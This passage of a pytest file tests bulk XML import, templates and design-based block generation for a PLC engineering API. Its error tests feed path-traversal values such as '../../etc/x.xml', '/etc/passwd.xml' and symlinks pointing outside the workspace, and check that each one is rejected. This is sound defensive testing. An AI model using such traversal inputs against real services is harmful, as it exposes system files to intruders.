    files = {"1_Main.xml": OB_MAIN, "2_DB_Motor.xml": INSTANCE_DB, "3_FB_Motor.xml": FB_LAD, "4_UDT_Motor.xml": UDT}
    written = {}
    for name, spec in files.items():
        written[name] = _xml_of(client, headers, spec)
        (root / name).write_bytes(written[name])
    return written


DEPENDENCY_ORDER = ["4_UDT_Motor.xml", "3_FB_Motor.xml", "2_DB_Motor.xml", "1_Main.xml"]


def test_bulk_import_directory_in_dependency_order(client, engineer_headers, cpu, services, workspace):
    written = _write_program(client, engineer_headers, workspace)
    result = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"}, "bulk-import"))
    assert result["order"] == DEPENDENCY_ORDER
    assert [r["source"] for r in result["reports"]] == DEPENDENCY_ORDER
    assert all(r["status"] == "Imported" for r in result["reports"]), result["reports"]
    objects = _objects(services)
    assert {n: o.kind for n, o in objects.items()} == {"UDT_Motor": "UDT", "FB_Motor": "FB", "DB_Motor": "InstanceDB", "Main": "OB"}
    assert objects["DB_Motor"].instance_of == "FB_Motor"
    assert all(o.consistent for o in objects.values())
    for name, xml in written.items():
        assert services.backend.program.export_program_object("PLC_1", name[2:-4]) == xml


def test_the_given_order_would_fail(client, engineer_headers, cpu, services, workspace):
    """The files imported one by one in directory order fail at the instance DB: the order matters."""
    _write_program(client, engineer_headers, workspace)
    data(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/1_Main.xml"}, "import-only"))
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "program/2_DB_Motor.xml"}, "import-only"),
                 422, "INSTANCE_OF_MISSING")


def test_bulk_import_files_list(client, engineer_headers, cpu, services, workspace):
    _write_program(client, engineer_headers, workspace)
    files = [f"program/{n}" for n in ("1_Main.xml", "2_DB_Motor.xml", "3_FB_Motor.xml", "4_UDT_Motor.xml")]
    result = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "files": files}, "bulk-import"))
    assert result["order"] == DEPENDENCY_ORDER
    assert [r["status"] for r in result["reports"]] == ["Imported"] * 4
    assert set(_objects(services)) == {"UDT_Motor", "FB_Motor", "DB_Motor", "Main"}


def test_bulk_import_orders_multi_instances_and_calls(client, engineer_headers, cpu, services, workspace):
    inner = {"blockType": "FB", "name": "FB_Inner", "number": 1, "language": "SCL", "interface": {"Input": [{"name": "A", "dataType": "Bool"}]}}
    outer = {"blockType": "FB", "name": "FB_Outer", "number": 2, "language": "SCL", "interface": {"Static": [{"name": "I1", "dataType": '"FB_Inner"'}]},
             "networks": [{"scl": "#I1(A := TRUE);"}]}
    fc_b = {"blockType": "FC", "name": "FC_B", "number": 1, "language": "SCL"}
    fc_a = {"blockType": "FC", "name": "FC_A", "number": 2, "language": "SCL", "networks": [{"scl": '"FC_B"();'}]}
    (workspace / "calls").mkdir()
    for name, spec in (("a_Outer.xml", outer), ("b_Inner.xml", inner), ("c_FC_A.xml", fc_a), ("d_FC_B.xml", fc_b)):
        (workspace / "calls" / name).write_bytes(_xml_of(client, engineer_headers, spec))
    result = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "calls"}, "bulk-import"))
    assert result["order"] == ["b_Inner.xml", "a_Outer.xml", "d_FC_B.xml", "c_FC_A.xml"]
    objects = _objects(services)
    assert objects["FB_Outer"].consistent and objects["FB_Outer"].missing_types == []


def test_bulk_import_keeps_subfolders_as_groups(client, engineer_headers, cpu, services, workspace):
    (workspace / "lib" / "types").mkdir(parents=True)
    (workspace / "lib" / "types" / "UDT_Motor.xml").write_bytes(_xml_of(client, engineer_headers, UDT))
    (workspace / "lib" / "FC_Scale.xml").write_bytes(_xml_of(client, engineer_headers, FC_SCL))
    result = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "lib"}, "bulk-import"))
    assert result["order"] == ["types/UDT_Motor.xml", "FC_Scale.xml"]
    objects = _objects(services)
    assert objects["UDT_Motor"].folder == "types"
    assert objects["FC_Scale"].folder == ""


def test_bulk_import_is_all_or_nothing(client, engineer_headers, cpu, services, workspace):
    _write_program(client, engineer_headers, workspace)
    (workspace / "program" / "5_Broken.xml").write_text("<Document><Engineering version=", encoding="utf-8")
    body = assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"}, "bulk-import"),
                        422, "IMPORT_FAILED")
    files = {f["source"]: f for f in body["details"]["files"]}
    assert set(files) == {*DEPENDENCY_ORDER, "5_Broken.xml"}
    assert files["5_Broken.xml"]["status"] == "Failed"
    assert files["5_Broken.xml"]["code"] == "INVALID_SIMATICML"
    assert {s: f["status"] for s, f in files.items() if s != "5_Broken.xml"} == dict.fromkeys(DEPENDENCY_ORDER, "NotImported")
    assert services.backend.program.list_program_objects("PLC_1") == []


def test_bulk_import_conflict_reports_and_imports_nothing(client, engineer_headers, cpu, services, workspace):
    data(_import(client, engineer_headers, {"spec": UDT, "deviceName": "PLC_1"}))
    _write_program(client, engineer_headers, workspace)
    body = assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program"}, "bulk-import"), 422, "IMPORT_FAILED")
    statuses = {f["source"]: (f["status"], f.get("code")) for f in body["details"]["files"]}
    assert statuses["4_UDT_Motor.xml"] == ("Failed", "OBJECT_EXISTS")
    assert list(_objects(services)) == ["UDT_Motor"]
    # With overwrite everything goes in.
    result = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "directory": "program", "overwrite": True}, "bulk-import"))
    assert [r["status"] for r in result["reports"]] == ["Imported"] * 4


def test_bulk_import_errors(client, engineer_headers, cpu, services, workspace):
    xml = _xml_of(client, engineer_headers, UDT)
    for folder in ("a", "b", "empty"):
        (workspace / folder).mkdir()
    (workspace / "a" / "UDT_Motor.xml").write_bytes(xml)
    (workspace / "b" / "UDT_Motor.xml").write_bytes(xml)
    (workspace / "empty" / "notes.txt").write_text("no xml here")
    bulk = lambda body: _import(client, engineer_headers, {"deviceName": "PLC_1", **body}, "bulk-import")  # noqa: E731
    assert_error(bulk({"files": ["a/UDT_Motor.xml", "b/UDT_Motor.xml"]}), 422, "DUPLICATE_FILE")
    assert_error(bulk({}), 422)
    assert_error(bulk({"files": []}), 422)
    assert_error(bulk({"directory": "empty"}), 422)
    body = assert_error(bulk({"files": ["../../etc/x.xml"]}), 422, "PATH_REJECTED")
    assert body["details"]["field"] == "files[0]"
    body = assert_error(bulk({"files": ["a/UDT_Motor.xml", "/etc/passwd.xml"]}), 422, "PATH_REJECTED")
    assert body["details"]["field"] == "files[1]"
    body = assert_error(bulk({"files": ["a/missing.xml"]}), 404, "FILE_NOT_FOUND")
    assert body["details"]["field"] == "files[0]"
    assert_error(bulk({"directory": "nowhere"}), 404)
    assert_error(bulk({"directory": "../.."}), 422, "PATH_REJECTED")
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_9", "directory": "a"}, "bulk-import"), 404, "DEVICE_NOT_FOUND")
    assert _objects(services) == {}


def test_bulk_import_does_not_follow_links_out_of_the_roots(client, engineer_headers, cpu, services, workspace, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "UDT_Secret.xml").write_bytes(_xml_of(client, engineer_headers, _with(UDT, name="UDT_Secret")))
    (workspace / "prog").mkdir()
    (workspace / "prog" / "linked").symlink_to(outside, target_is_directory=True)
    (workspace / "prog" / "file_link.xml").symlink_to(outside / "UDT_Secret.xml")
    bulk = lambda body: _import(client, engineer_headers, {"deviceName": "PLC_1", **body}, "bulk-import")  # noqa: E731
    assert_error(bulk({"directory": "prog"}), 422)  # no .xml file inside the roots
    assert_error(bulk({"files": ["prog/linked/UDT_Secret.xml"]}), 422, "PATH_REJECTED")
    assert_error(bulk({"files": ["prog/file_link.xml"]}), 422, "PATH_REJECTED")
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "prog/file_link.xml"}, "import-only"),
                 422, "PATH_REJECTED")
    assert _objects(services) == {}


def test_bulk_import_async(client, engineer_headers, cpu, services, workspace):
    _write_program(client, engineer_headers, workspace)
    job = run_job(client, "POST", "/api/blockgeneration/bulk-import-async", engineer_headers,
                  json={"deviceName": "PLC_1", "directory": "program"})
    assert job["status"] == "Completed", job
    assert job["operation"] == "blockgeneration.bulk-import"
    assert job["result"]["order"] == DEPENDENCY_ORDER
    assert [r["status"] for r in job["result"]["reports"]] == ["Imported"] * 4
    assert len(_objects(services)) == 4


def test_bulk_import_async_failure(client, engineer_headers, cpu, services, workspace):
    _write_program(client, engineer_headers, workspace)
    (workspace / "program" / "5_Broken.xml").write_text("<nope/>", encoding="utf-8")
    job = run_job(client, "POST", "/api/blockgeneration/bulk-import-async", engineer_headers,
                  json={"deviceName": "PLC_1", "directory": "program"})
    assert job["status"] == "Failed"
    assert job_error(job)["code"] == "IMPORT_FAILED"
    assert job_error(job)["status"] == 422
    assert _objects(services) == {}


# ----- templates -------------------------------------------------------------------------------
def test_list_templates(shared):
    client, headers = shared.client, shared.viewer
    templates = data(client.get("/api/blockgeneration/templates", headers=headers))
    by_name = {t["name"]: t for t in templates}
    assert set(TEMPLATES) <= set(by_name)
    for template in templates:
        assert template["title"] and template["description"]
        assert template["blockType"] == "FB"
        assert template["parameters"], template["name"]
        for parameter in template["parameters"]:
            assert {"name", "type", "default", "description"} <= set(parameter)
        assert "spec" not in template
    assert by_name["graph_sequence"]["language"] == "GRAPH"
    assert "blockName" in {p["name"] for p in by_name["valve"]["parameters"]}


def test_one_template_with_its_spec(shared):
    client, headers = shared.client, shared.headers
    templates = data(client.get("/api/blockgeneration/templates", params={"name": "valve"}, headers=shared.viewer))
    assert len(templates) == 1
    valve = templates[0]
    assert valve["name"] == "valve"
    assert valve["spec"]["blockType"] == "FB"
    assert valve["spec"]["name"] == "FB_Valve"  # the default blockName applied
    # The spec generates the same block as the template itself.
    from_spec = data(_gen(client, headers, {"spec": valve["spec"]}))
    from_template = data(_gen(client, headers, {"template": "valve"}))
    assert from_spec["xml"] == from_template["xml"]


def test_unknown_template_is_404(shared):
    client, headers = shared.client, shared.viewer
    body = assert_error(client.get("/api/blockgeneration/templates", params={"name": "nope"}, headers=headers),
                        404, "TEMPLATE_NOT_FOUND")
    assert "valve" in body["message"]


# ----- generate-from-design --------------------------------------------------------------------
def _from_design(client, headers, body):
    return client.post("/api/blockgeneration/generate-from-design", json=body, headers=headers)


def test_generate_from_design_returns_documents_in_import_order(shared):
    client, headers = shared.client, shared.headers
    result = data(_from_design(client, headers, {"design": DESIGN, "targetVersion": "V20"}))
    assert result["version"] == "V20"
    assert result["imported"] is None
    names = [d["name"] for d in result["documents"]]
    assert names == ["IO", "FB_Motor", "FB_Valve", "Pump1", "Inlet", "Main"]
    kinds = [type(parse_bytes(d["xml"]).object).__name__ for d in result["documents"]]
    assert kinds == ["PlcTagTable", "FB", "FB", "InstanceDB", "InstanceDB", "OB"]
    for document in result["documents"]:
        doc = parse_bytes(document["xml"])
        assert doc.object.name == document["name"]
        assert doc.engineering_version == "V20"
    tags = {t.name: t for t in parse_bytes(result["documents"][0]["xml"]).object.objects("Tags")}
    assert set(tags) == {"Pump1_Start", "Pump1_Stop", "Pump1_Run", "Tank_Level_Low"}
    main = result["documents"][-1]["xml"]
    assert "Pump1" in main and "Inlet" in main and "Tank_Level_Low" in main


def test_generate_from_design_imports_with_a_device(client, engineer_headers, cpu, services):
    result = data(_from_design(client, engineer_headers, {"design": DESIGN_ONE, "deviceName": "PLC_1"}))
    assert result["version"] == "V19"  # the open project's
    names = [d["name"] for d in result["documents"]]
    assert names == ["IO", "FB_Motor", "Pump1", "Main"]
    imported = result["imported"]
    assert imported["order"] == names
    assert [r["status"] for r in imported["reports"]] == ["Imported"] * 4
    assert_pump_imported(services, result["documents"], "IO")
    # Again without overwrite: every document exists, nothing changes; with overwrite it succeeds.
    body = assert_error(_from_design(client, engineer_headers, {"design": DESIGN_ONE, "deviceName": "PLC_1"}), 422, "IMPORT_FAILED")
    assert {(f["status"], f["code"]) for f in body["details"]["files"]} == {("Failed", "OBJECT_EXISTS")}
    result = data(_from_design(client, engineer_headers, {"design": DESIGN_ONE, "deviceName": "PLC_1", "overwrite": True}))
    assert [r["status"] for r in result["imported"]["reports"]] == ["Imported"] * 4


def test_generate_from_design_with_two_modules_imports(client, engineer_headers, cpu, services):
    result = data(_from_design(client, engineer_headers, {"design": DESIGN, "deviceName": "PLC_1"}))
    assert [r["status"] for r in result["imported"]["reports"]] == ["Imported"] * 6
    assert {n: o.kind for n, o in _objects(services).items()} == {
        "IO": "TagTable", "FB_Motor": "FB", "FB_Valve": "FB", "Pump1": "InstanceDB", "Inlet": "InstanceDB", "Main": "OB"
    }


BAD_DESIGNS = [
    ("no-modules", {"io": DESIGN["io"]}, "modules"),
    ("unknown-template", {**DESIGN, "modules": [{"name": "M1", "template": "nope"}]}, "modules[0].template"),
    ("bad-address", {**DESIGN, "io": [{"name": "A", "address": "%X0.0"}]}, "io[0].address"),
    ("duplicate-address", {**DESIGN, "io": [*DESIGN["io"], {"name": "Other", "address": "%I0.0"}]}, "io[4].address"),
    ("duplicate-tag", {**DESIGN, "io": [*DESIGN["io"], {"name": "pump1_start", "address": "%I1.0"}]}, "io[4].name"),
    ("unknown-io-key", {**DESIGN, "modules": [{**DESIGN["modules"][0], "io": {"Nope": "Pump1_Start"}}]}, "modules[0].io.Nope"),
    ("unknown-tag", {**DESIGN, "modules": [{**DESIGN["modules"][0], "io": {"Start": "Nope"}}]}, "modules[0].io.Start"),
    ("interlock-target", {**DESIGN, "interlocks": [{"target": "Nobody", "condition": "TRUE"}]}, "interlocks[0].target"),
    ("interlock-local", {**DESIGN, "interlocks": [{"target": "Pump1", "condition": "#x"}]}, "interlocks[0].condition"),
    ("unknown-field", {**DESIGN, "colour": "red"}, "colour"),
]


@pytest.mark.parametrize(("design", "field"), [(d, f) for _, d, f in BAD_DESIGNS], ids=[i for i, _, _ in BAD_DESIGNS])
def test_generate_from_design_invalid(shared, design, field):
    body = assert_error(_from_design(shared.client, shared.headers, {"design": design}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == field
    assert body["details"]["reason"]


def test_an_invalid_design_imports_nothing(client, engineer_headers, cpu, services):
    design = {**DESIGN_ONE, "interlocks": [{"target": "Nobody", "condition": "TRUE"}]}
    body = assert_error(_from_design(client, engineer_headers, {"design": design, "deviceName": "PLC_1"}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "interlocks[0].target"
    assert _objects(services) == {}


def test_generate_from_design_with_a_graph_module_needs_a_graph_version(shared):
    design = {"modules": [{"name": "Seq1", "template": "graph_sequence"}]}
    body = assert_error(_from_design(shared.client, shared.headers, {"design": design, "targetVersion": "V19"}),
                        422, "VERSION_CANNOT_EXPRESS")
    assert body["details"]["field"] == "version"
    result = data(_from_design(shared.client, shared.headers, {"design": design, "targetVersion": "V18"}))
    assert [d["name"] for d in result["documents"]] == ["IO", "FB_BatchSequence", "Seq1", "Main"]


def test_generate_from_design_needs_a_design(shared):
    client, headers = shared.client, shared.headers
    assert assert_error(_from_design(client, headers, {}), 422)["details"]["field"] == "design"
    assert_error(_from_design(client, headers, {"prompt": "two pumps and a tank"}), 501, "PROMPT_NOT_SUPPORTED")


def test_generate_from_design_import_errors(client, engineer_headers, admin_headers):
    assert_error(_from_design(client, engineer_headers, {"design": DESIGN, "deviceName": "PLC_1"}), 409, "NO_PROJECT_OPEN")
    data(client.post("/api/projects/actions/create-sync", json={"name": "Line1"}, headers=admin_headers))
    assert_error(_from_design(client, engineer_headers, {"design": DESIGN, "deviceName": "PLC_1"}), 404, "DEVICE_NOT_FOUND")
    add_device(client, admin_headers, HMI, "HMI_1")
    assert_error(_from_design(client, engineer_headers, {"design": DESIGN, "deviceName": "HMI_1"}), 422, "NOT_A_PLC")
